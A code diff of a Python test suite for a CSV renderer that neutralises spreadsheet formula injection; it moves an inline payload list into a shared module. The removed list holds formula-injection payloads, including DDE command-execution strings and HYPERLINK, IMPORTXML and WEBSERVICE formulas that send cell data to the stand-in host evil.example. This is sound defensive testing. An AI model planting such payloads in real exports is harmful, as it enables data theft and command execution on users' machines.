@@ -9,46 +9,12 @@ from collections.abc import Iterable
 
 import pytest
 
+from tests.injections import INJECTIONS
 from webapp.analytics.follows import FollowRow
 from webapp.domain.errors import ErrorCode, Invalid
 from webapp.domain.period import instant
 from webapp.renderers.csv import Dialect, neutralise, render_follows
 
-PAYLOADS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
-    '=IMPORTDATA("http://evil.example")',
-    '=WEBSERVICE("http://evil.example")',
-    '=DDE("cmd";"/C calc";"x")',
-    "=1+1;=2+2",
-    "=1,=2",
-    "+1+1",
-    "+cmd|' /C calc'!A0",
-    "+49151234567",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "--1",
-    "@SUM(1+1)",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "@ada",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "|calc",
-    "%0A=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    " =1+1",
-    "   @SUM(1)",
-    "\u00a0=1+1",
-    "\u3000-1",
-    "\ufeff=1+1",
-    " \t=1+1",
-]
 HARMLESS = ["ada", "ada.lovelace_", "a=b", "a+b", "7up", "_x", "été", "日本語", "قناة", "🌸", "'=1", "", "   "]
 AWKWARD = [*HARMLESS, "a;b", 'a"b', "a,b", "a\r\nb", '"=1"']
 DELIMITERS = {Dialect.STANDARD: ",", Dialect.EXCEL: ";"}
@@ -66,7 +32,7 @@ def cells(content: bytes, dialect: Dialect) -> list[list[str]]:
 
 
 @pytest.mark.parametrize("dialect", Dialect)
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", INJECTIONS)
 def test_no_cell_begins_like_a_formula(payload: str, dialect: Dialect) -> None:
     table = cells(rendered([FollowRow(payload, 0, True)], dialect), dialect)
     assert len(table) == 2, "the payload made rows of its own"
@@ -151,7 +117,9 @@ def test_the_file_is_byte_for_byte_what_the_standard_library_writes(timezone: st
     for safe in (0.0, 0.9, 1.0):
         rows = [
             FollowRow(
-                f"plain.{number}_" if draw.random() < safe else draw.choice([*PAYLOADS, *AWKWARD, "'", ";", '"', "\r"]),
+                f"plain.{number}_"
+                if draw.random() < safe
+                else draw.choice([*INJECTIONS, *AWKWARD, "'", ";", '"', "\r"]),
                 draw.choice([draw.choice(edges) + draw.randrange(-7200, 7200), draw.randrange(2**31)]),
                 draw.choice([True, False, None]),
             )
